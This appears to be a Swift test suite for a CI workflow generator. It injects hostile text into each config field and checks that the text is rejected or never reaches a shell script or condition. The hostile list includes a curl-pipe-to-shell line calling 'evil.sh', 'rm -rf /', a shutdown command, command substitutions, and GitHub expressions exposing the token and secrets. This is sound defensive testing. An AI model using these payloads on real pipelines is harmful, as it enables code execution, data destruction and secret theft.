import Foundation
import Testing
@testable import Pipewright
import PipewrightBlueprints

/// Hostile text in every free-text field of the config: each value is either rejected with an error that
/// names the field, or emitted where no script interprets it (never inside a `run:`, only in `env:` or
/// `with:` values). With PIPEWRIGHT_HOSTILE_OUT set, the accepted renders are written there (YAML with
/// JSON twins) so CI runs shellcheck, zizmor and the schemas over them.
@Suite struct HostileTextTests {
    static let hostile: [String] = [
        "a\"; rm -rf /",
        "x' || curl evil.sh | sh #",
        "$(id)",
        "`id`",
        "${{ github.token }}",
        "${{ secrets.SLACK_WEBHOOK_URL }}",
        "line one\nline two",
        "tab\there",
        "back\\slash",
        "ünïcödé ✓",
        "\u{202E}gnp.exe",
        String(repeating: "a", count: 5_000),
        "-- --help",
        "; shutdown -h now",
        "$HOME",
        "*",
        "",
    ]

    /// JSON paths of the free-text fields in the default blueprint's config.
    static let fields: [[JSONPathStep]] = [
        [.key("name")], [.key("project")], [.key("region")],
        [.key("stackNaming"), .key("prefix")], [.key("stackNaming"), .key("suffix")],
        [.key("infrastructure"), .key("template")],
        [.key("ciRole"), .key("variable")],
        [.key("environments"), .index(0), .key("name")], [.key("environments"), .index(0), .key("account")],
        [.key("environments"), .index(0), .key("branch")], [.key("environments"), .index(0), .key("githubEnvironment")],
        [.key("environments"), .index(0), .key("role"), .key("variable")],
        [.key("environments"), .index(0), .key("parameters"), .key("EnvironmentName")],
        [.key("tags"), .key("CostCenter")],
        [.key("drift"), .key("githubEnvironment")], [.key("drift"), .key("schedule"), .index(0)],
        [.key("notify"), .key("slack"), .key("webhookSecret")],
        [.key("artifactEncryption"), .key("kmsKey")],
        [.key("runtime"), .key("runner")],
        [.key("validation"), .key("cfnLintVersion")],
        [.key("build"), .key("commands"), .append],
        [.key("validation"), .key("commands"), .append],
    ]

    enum JSONPathStep: Hashable { case key(String), index(Int), append }

    struct Case: Sendable, CustomTestStringConvertible {
        let field: String
        let value: String
        let config: String
        var testDescription: String { field + " = " + String(value.prefix(30)).debugDescription }
    }

    static var cases: [Case] {
        let base = try! JSONReader.read(PipewrightConfig.encode(Blueprint.cloudFormation.pipeline()))
        return fields.flatMap { path in
            hostile.map { value in
                let name = path.map { step -> String in
                    switch step {
                    case .key(let key): "." + key
                    case .index(let index): "[\(index)]"
                    case .append: "[+]"
                    }
                }.joined().dropFirst()
                return Case(field: String(name), value: value, config: JSONWriter.write(setting(base, path[...], to: value)))
            }
        }
    }

    static func setting(_ value: JSONValue, _ path: ArraySlice<JSONPathStep>, to text: String) -> JSONValue {
        guard let step = path.first else { return .string(text) }
        switch (step, value) {
        case (.key(let key), .object(let members)):
            // A key the encoder left out (a default) is added, so every field is really exercised.
            guard members.contains(where: { $0.key == key }) else {
                return .object(members + [JSONMember(key, setting(.object([]), path.dropFirst(), to: text))])
            }
            return .object(members.map { $0.key == key ? JSONMember(key, setting($0.value, path.dropFirst(), to: text)) : $0 })
        case (.index(let index), .array(let items)):
            var items = items
            items[index] = setting(items[index], path.dropFirst(), to: text)
            return .array(items)
        case (.append, .array(let items)):
            return .array(items + [.string(text)])
        default:
            return value
        }
    }

    @Test func everyFieldIsReallySet() throws {
        for testCase in Self.cases where testCase.value == "$(id)" {
            #expect(testCase.config.contains("\"$(id)\""), "\(testCase.field) was not set")
        }
    }

    @Test(arguments: cases)
    func rejectedClearlyOrNeverInterpreted(_ testCase: Case) throws {
        // `[+]` is an appended element: its index is the array's length, so the array's path is what is named.
        let field = testCase.field.hasSuffix("[+]") ? String(testCase.field.dropLast(3)) + "[" : testCase.field
        let pipeline: Pipeline
        do {
            pipeline = try PipewrightConfig.decode(testCase.config).pipeline
        } catch {
            #expect(!error.messages.isEmpty)
            for message in error.messages {
                #expect(message.hasPrefix(field), "\(testCase): the error does not name the field: \(message)")
            }
            return
        }
        #expect(pipeline.configurationErrors() == [], "\(testCase): decoding accepted what the rules reject")
        // Accepted: the value may only reach YAML outside scripts and conditions, and only if it is harmless there.
        #expect(!testCase.value.contains("${{"), "\(testCase) accepted an expression")
        #expect(!testCase.value.contains("\n"), "\(testCase) accepted a line break")
        let generator = Generator(policy: .default)
        let workflows = generator.lower(pipeline)
        for generated in workflows {
            #expect(generated.workflow.validationErrors() == [], "\(testCase)")
            for job in generated.workflow.jobs {
                for step in job.steps {
                    guard let script = step.script?.rendered, !testCase.value.isEmpty, testCase.value.count > 2 else { continue }
                    let isCommandField = testCase.field.hasSuffix("commands[+]")
                    #expect(isCommandField || !script.contains(testCase.value), "\(testCase) reached a script in \(job.id)")
                }
                #expect(!(job.condition?.source.contains(testCase.value) ?? false) || testCase.value.count <= 2, "\(testCase) reached an if:")
            }
        }
        // Build and validation commands are the repository owner's own shell, run verbatim by design; the
        // validators would rightly judge hostile ones as bad shell, so only inert fields are exported.
        if let out = ProcessInfo.processInfo.environment["PIPEWRIGHT_HOSTILE_OUT"], !testCase.field.hasSuffix("commands[+]") {
            try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            let stem = String(testCase.field.map { $0.isLetter || $0.isNumber ? $0 : "-" }) + "-" + SHA256.hex(testCase.value).prefix(8)
            for generated in workflows {
                let base = out + "/" + stem + "--" + String(generated.fileName.dropLast(4))
                try generator.render(generated).contents.write(toFile: base + ".yml", atomically: true, encoding: .utf8)
                try JSONEmitter.emit(generated.workflow.yamlNode).write(toFile: base + ".json", atomically: true, encoding: .utf8)
            }
        }
    }
}
